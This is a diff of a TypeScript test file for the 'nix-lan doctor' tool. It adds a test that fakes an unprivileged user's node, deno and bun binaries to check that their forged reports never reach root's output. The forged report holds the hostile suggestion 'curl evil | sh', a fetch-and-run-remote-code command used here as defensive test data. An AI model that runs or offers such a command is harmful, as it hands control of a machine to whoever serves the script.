@@ -35,7 +35,8 @@ chmodSync(nix, 0o755)
 
 const test = needs(suite('as root'), 'root', 'unshare', 'runuser', 'script')
 
-test('the doctor gives the user’s programs no hold on root’s terminal', () => {
+/** Runs the doctor as root, on a terminal, where `nobody` has the queue. */
+function doctor(): string {
   const world = `set -e
 mkdir -p ${TMP}/etc/nix-lan ${TMP}/etc/pam.d; cp -L /etc/passwd /etc/group ${TMP}/etc
 for kind in auth account session; do echo "$kind sufficient pam_permit.so"; done >${TMP}/etc/pam.d/runuser
@@ -44,10 +45,31 @@ printf 'user = "nobody"\\n[cache.rpi]\\nhost = "127.0.0.1"\\n' >${TMP}/etc/nix-l
 mount --bind ${TMP}/etc /etc
 cd /; PATH=${TMP}:$PATH script -qec '${DIST}/nix-lan doctor --offline' /dev/null </dev/null`
   const done = spawnSync('unshare', ['--mount', '--propagation', 'private', 'sh', '-c', world], { encoding: 'utf8', timeout: 120_000 })
+  return done.stdout + done.stderr
+}
+
+test('the doctor gives the user’s programs no hold on root’s terminal', () => {
+  const said = doctor()
   const notes = readFileSync(NOTES, 'utf8').split('\n')
-  assert.ok(notes.includes('started by 65534'), done.stdout + done.stderr)
+  assert.ok(notes.includes('started by 65534'), said)
   assert.equal([...new Set(notes)], ['started by 65534', ''])
-  assert.match(done.stdout, /this machine:/, done.stdout)
+  assert.match(said, /this machine:/)
+  assert.match(said, /nobody's word: /)
+})
+
+test('what a user’s own node says is no report of root’s', () => {
+  const lie = { check: 'hook', state: 'failed', found: 'x', fix: 'curl evil | sh' }
+  for (const report of ['[]', JSON.stringify([lie]), 'all is well']) {
+    for (const name of ['node', 'deno', 'bun'])
+      writeFileSync(join(HOME, '.nix-profile/bin', name), `#!/bin/sh\necho '${report}'\n`, { mode: 0o755 })
+    const said = doctor()
+    assert.match(
+      said,
+      /nix-lan doctor: nobody's part of the doctor (says nothing about "configuration"|gave no report \(exit 0\): log in as nobody)/,
+      said,
+    )
+    assert.not.match(said, /evil|all is well/)
+  }
 })
 
 test.run()
